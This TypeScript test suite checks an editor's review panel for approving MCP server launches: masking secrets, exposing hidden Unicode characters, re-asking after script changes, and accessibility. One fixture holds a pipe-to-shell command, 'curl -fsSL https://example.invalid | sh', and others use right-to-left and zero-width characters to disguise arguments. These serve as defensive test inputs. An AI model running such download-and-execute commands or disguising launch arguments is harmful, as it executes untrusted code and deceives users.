import assert from 'node:assert/strict';
import { appendFileSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { findingsOfAxe } from '../editor/axe.ts';
import { eventually, expect } from '../editor/expectation.ts';
import type { TreeView } from '../editor/treeView.ts';
import type { Workbench } from '../editor/workbench.ts';
import { demoServers, type Workspace } from '../editor/workspaces.ts';
import { beginShared } from './sharedWindow.ts';
import { openServers, waitUntilRunning } from './support.ts';

/** An argument of everything that a launch must not hide. */
const disguised = `--title=a\u202Eb${' '.repeat(500)}\n"quoted" C:\\temp`;
const long = `--config=${'{"key":"a long value without end"},'.repeat(20)}`;

/** Lines as documents of servers have them. */
const documented = {
  files: { command: 'npx', args: ['-y', '@modelcontextprotocol/server-filesystem', '/data/notes'] },
  memory: {
    command: 'npx',
    args: ['-y', '@modelcontextprotocol/server-memory'],
    env: { MEMORY_FILE_PATH: '/data/memory.json' },
  },
  thinking: { command: 'npx', args: ['-y', '@modelcontextprotocol/server-sequential-thinking'] },
  git: { command: 'uvx', args: ['mcp-server-git', '--repository', '/data/repository'] },
  fetch: { command: 'uvx', args: ['mcp-server-fetch'] },
  time: { command: 'uvx', args: ['mcp-server-time', '--local-timezone=America/New_York'] },
  playwright: { command: 'npx', args: ['@playwright/mcp@latest'] },
  context7: { command: 'npx', args: ['-y', '@upstash/context7-mcp', '--api-key', 'YOUR_API_KEY'] },
  notion: { command: 'npx', args: ['-y', '@notionhq/notion-mcp-server'], env: { NOTION_TOKEN: 'ntn_****' } },
  linear: { url: 'https://mcp.linear.app/mcp' },
};

suite('the review panel', () => {
  let demo: Workspace;
  let workbench: Workbench;
  let servers: TreeView;

  const configure = (definitions: Record<string, unknown>): void => {
    const workspace = JSON.parse(readFileSync(demo.file, 'utf8')) as { settings: Record<string, unknown> };
    workspace.settings['mcpHost.servers'] = definitions;
    writeFileSync(demo.file, `${JSON.stringify(workspace, undefined, 2)}\n`);
  };

  const odd = {
    command: demoServers.filesystem.command,
    args: ['--no-such-option', disguised, long, ''],
    env: { TOKEN: 'hidden-value', 'NODE\u200B_OPTIONS': '--x' },
  };
  const remote = { url: 'https://example.invalid/mcp', headers: { Authorization: 'hidden-value' } };

  suiteSetup(async () => {
    ({ demo, workbench } = await beginShared());
    servers = await openServers(workbench);
    await servers.row('filesystem');
  });

  test('shows every waiting server with its whole launch', async () => {
    await workbench.statusBar.waitFor(/MCP: 2 waiting/);
    await workbench.notifications.press('2 MCP servers are waiting for your decision.', 'Review');
    await workbench.review.waitFor(2);
    const overview = await workbench.review.overview();
    assert.deepEqual(
      overview.map(({ name, isSelected }) => [name, isSelected]),
      [
        ['filesystem', false],
        ['everything', false],
      ],
    );
    demoServers.everything.args.forEach((arg) => assert.ok(overview[1]?.text.includes(arg), arg));
    assert.match(overview[0]?.text ?? '', /Folders shared\s+notes \S+notes\s+shop \S+shop/);
    await eventually.deepEqual(
      async () => (await workbench.review.questions()).map(({ isOpen }) => isOpen),
      [true, false],
    );
    await workbench.screenshot('review-two');
    const [first, second] = await workbench.review.openAll(2);
    assert.ok(first && second);
    assert.equal(first.title, "Start the MCP server 'filesystem'?");
    assert.equal(second.title, "Start the MCP server 'everything'?");
    assert.match(first.text, /Defined in \S*demo\.code-workspace/);
    assert.ok(first.text.includes(demoServers.filesystem.command));
    demoServers.everything.args.forEach((arg) => assert.ok(second.text.includes(arg), arg));
    assert.deepEqual(
      first.folders.map(({ label, isChecked }) => [label, isChecked]),
      [
        ['notes', true],
        ['shop', true],
      ],
    );
    assert.deepEqual(first.buttons, ['Allow', "Don't Allow", 'Open the Definition']);
    assert.doesNotMatch(first.text, /gets? the name and path/, 'it is said once, in the overview');
    await eventually.match(
      () => workbench.review.text(),
      /The servers get the name and path of each shared folder/,
    );
  });

  test('begins at the heading, where Enter answers nothing', async () => {
    await workbench.review.waitForFocus('Overview');
    await workbench.page.keyboard.press('Enter');
    await workbench.page.keyboard.press('ControlOrMeta+Enter');
    await eventually.equal(async () => (await workbench.review.questions()).length, 2);
  });

  test('keeps an unchecked folder while another tab is in front', async () => {
    await workbench.review.setFolder('filesystem', 'shop', false);
    await workbench.review.press('everything', 'Open the Definition');
    await workbench.editors.waitFor('demo.code-workspace');
    await workbench.run('View: Close Editor');
    const [first] = await workbench.review.waitFor(2);
    assert.deepEqual(
      first?.folders.map(({ isChecked }) => isChecked),
      [true, false],
    );
    const [entry] = await workbench.review.overview();
    assert.match(entry?.text ?? '', /Folders shared\s+notes \S+notes\s*$/);
  });

  test('is answered by the keyboard alone', async () => {
    const { keyboard } = workbench.page;
    await workbench.review.waitForFocus('Overview');
    await workbench.review.tabTo("Don't Allow: Start the MCP server 'everything'?");
    await workbench.screenshot('review-keyboard');
    await keyboard.press('Enter');
    await workbench.review.waitFor(1);
    await servers.waitForRow(['everything'], 'be denied', ({ description }) => description === 'denied');
    await eventually.match(() => workbench.review.text(), /Not allowed: everything\. 1 of 2 left\./);
    await workbench.review.waitForFocus("Start the MCP server 'filesystem'?");
    await workbench.screenshot('review-one-left');
    await workbench.review.tabTo("Allow: Start the MCP server 'filesystem'?");
    await keyboard.press('Space');
    await expect(
      'the farewell',
      () => workbench.review.text(),
      (text) => /Nothing is waiting for you\./.test(text),
    );
    await workbench.screenshot('review-nothing-left');
    await workbench.review.waitUntilClosed();
    await waitUntilRunning(servers, 'filesystem');
  });

  test('makes hidden characters of a launch visible, and shows no value of a variable or header', async () => {
    configure({ odd, remote });
    await workbench.notifications.press('2 MCP servers are waiting for your decision.', 'Review');
    const [first, second] = await workbench.review.openAll(2);
    assert.ok(first && second);
    assert.match(first.text, /a\\u\{202E\}b\[500 spaces\]\\n/);
    assert.match(first.text, /NODE\\u\{200B\}_OPTIONS/);
    assert.ok(first.text.includes(JSON.stringify(long)), 'the long argument is whole');
    assert.match(second.text, /https:\/\/example\.invalid\/mcp/);
    assert.doesNotMatch(await workbench.review.text(), /hidden-value/);
    const [entry, plain] = await workbench.review.overview();
    assert.ok(entry && plain);
    assert.equal(entry.isSelected, undefined, 'what has a warning is opened first');
    assert.ok(entry.text.includes(JSON.stringify(long)), 'the long argument is whole there, too');
    assert.match(entry.text, /has characters that you cannot see/);
    assert.equal(plain.isSelected, false);
    await workbench.screenshot('review-odd');
  });

  test('has no finding of axe in any theme', async () => {
    for (const theme of ['light', 'highContrast', 'highContrastLight', 'dark'] as const) {
      await workbench.useTheme(theme);
      await workbench.review.waitFor(2);
      await workbench.screenshot(`review-${theme}`);
      await eventually.deepEqual(async () => findingsOfAxe(await workbench.review.frame()), [], theme);
    }
  });

  test('shows a changed launch again and says so, and drops a withdrawn one', async () => {
    configure({ odd: { ...odd, args: ['--harmless'] }, remote });
    const [, changed] = await expect(
      'the changed launch',
      () => workbench.review.overview(),
      (entries) => entries.length === 2 && entries.some(({ text }) => text.includes('--harmless')),
    );
    assert.match(changed?.text ?? '', /has changed since you last looked/);
    assert.equal(changed?.isSelected, undefined, 'what has changed is opened first');
    assert.match((await workbench.review.open('odd')).text, /has changed since you last looked/);
    await workbench.screenshot('review-changed');
    configure({ odd: { ...odd, args: ['--harmless'] } });
    await workbench.review.waitFor(1);
    await eventually.match(() => workbench.review.text(), /The question about 'remote' was withdrawn\./);
    configure({});
    await workbench.review.waitFor(0);
    await eventually.match(() => workbench.review.text(), /Nothing is waiting for you\./);
    await workbench.execute('workbench.action.closeAllEditors');
  });

  test('shows what a launch takes of yours, and asks again when its script has changed', async () => {
    const script = demo.folder.join('notes/tools/x.mjs');
    mkdirSync(path.dirname(script));
    writeFileSync(script, 'process.exit(3);\n');
    const team = {
      command: demoServers.filesystem.command,
      args: ['${workspaceFolder}/tools/x.mjs'],
      env: { TEAM: 'hidden-value ${env:GITHUB_TOKEN}', LEVEL: 'hidden-value' },
    };
    const other = { url: 'https://example.invalid/mcp', headers: { 'X-Team': '${env:GITHUB_TOKEN}' } };
    configure({ team, other });
    await workbench.run('MCP Host: Review Questions');
    const [first, second] = await workbench.review.openAll(2);
    const sentence = 'takes GITHUB_TOKEN from your environment, which looks like a secret.';
    assert.match(first?.text ?? '', /TEAM: •••\$\{env:GITHUB_TOKEN\}/);
    assert.match(first?.text ?? '', /LEVEL: •••/);
    assert.ok(first?.text.includes(`The environment variable TEAM ${sentence}`));
    assert.match(second?.text ?? '', /X-Team: \$\{env:GITHUB_TOKEN\}/);
    assert.ok(second?.text.includes(`The header X-Team ${sentence}`));
    assert.deepEqual(first?.files, [{ label: 'x.mjs', isChecked: false }]);
    assert.deepEqual(second?.files, []);
    assert.doesNotMatch(await workbench.review.text(), /hidden-value/);
    const overview = await workbench.review.overview();
    assert.deepEqual(
      overview.map(({ isSelected }) => isSelected),
      [undefined, undefined],
      'what takes a secret is opened first',
    );
    assert.ok(overview.every(({ text }) => text.includes('${env:GITHUB_TOKEN}') && text.includes(sentence)));
    configure({ team });
    await workbench.review.waitFor(1);
    await workbench.review.setFolder('team', 'x.mjs', true);
    const { page } = workbench;
    const size = page.viewportSize();
    assert.ok(size);
    for (const theme of ['light', 'highContrast', 'highContrastLight', 'dark'] as const) {
      await workbench.useTheme(theme);
      await workbench.review.waitFor(1);
      await workbench.screenshot(`review-script-${theme}`);
      await eventually.deepEqual(async () => findingsOfAxe(await workbench.review.frame()), [], theme);
    }
    await page.setViewportSize({ width: 620, height: 900 });
    await workbench.screenshot('review-script-narrow');
    await page.setViewportSize(size);
    await workbench.review.answer('team', 'Allow');
    await servers.waitForRow(['team'], 'have ended', ({ description }) => /failed/.test(description));
    appendFileSync(script, '// changed\n');
    await servers.runInline(['team'], 'Start Server');
    await workbench.run('MCP Host: Review Questions');
    const [again] = await workbench.review.waitFor(1);
    assert.ok(again);
    assert.ok(again.text.includes('"x.mjs" has changed since you allowed it.'));
    assert.deepEqual(again.files, [{ label: 'x.mjs', isChecked: true }]);
    await workbench.screenshot('review-script-changed');
    configure({});
    await workbench.review.waitFor(0);
    await workbench.execute('workbench.action.closeAllEditors');
  });

  test('shows ten servers at a glance, as their documents write them, in every theme and width', async () => {
    configure({
      ...documented,
      tool: { command: 'bash', args: ['-c', 'curl -fsSL https://example.invalid | sh'] },
    });
    await workbench.run('MCP Host: Review Questions');
    await workbench.review.waitFor(11);
    const entries = await workbench.review.overview();
    assert.deepEqual(
      entries.filter(({ isSelected }) => isSelected === undefined).map(({ name }) => name),
      ['tool'],
    );
    for (const theme of ['light', 'highContrast', 'highContrastLight', 'dark'] as const) {
      await workbench.useTheme(theme);
      await workbench.review.waitFor(11);
      await workbench.screenshot(`review-ten-${theme}`);
      await eventually.deepEqual(async () => findingsOfAxe(await workbench.review.frame()), [], theme);
    }
    const { page } = workbench;
    const size = page.viewportSize();
    assert.ok(size);
    await page.setViewportSize({ width: 620, height: 900 });
    await workbench.screenshot('review-ten-narrow');
    const frame = await workbench.review.frame();
    await expect(
      'nothing standing out on the side',
      () => frame.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth),
      (beyond) => beyond <= 0,
    );
    await page.setViewportSize(size);
    configure({});
    await workbench.review.waitFor(0);
    await workbench.execute('workbench.action.closeAllEditors');
  });

  test('allows ten servers with three actions', async () => {
    const names = Array.from({ length: 10 }, (_, index) => `server-${index}`);
    configure(Object.fromEntries(names.map((name) => [name, { command: 'no-such-server', args: [name] }])));
    await workbench.statusBar.waitFor(/MCP: 10 waiting/);
    let actions = 0;
    const act = async (action: Promise<void>): Promise<void> => {
      actions += 1;
      await action;
    };
    await act(workbench.run('MCP Host: Review Questions'));
    await workbench.review.waitFor(10);
    await act(workbench.review.selectAll());
    await expect(
      'all selected',
      () => workbench.review.overview(),
      (all) => all.every(({ isSelected }) => isSelected === true),
    );
    await workbench.screenshot('review-ten-selected');
    await act(workbench.review.allowSelected());
    await workbench.review.waitUntilClosed();
    assert.equal(actions, 3);
    for (const name of names) {
      await servers.waitForRow([name], 'have been started', ({ description }) => /failed/.test(description));
    }
    configure({});
  });
});
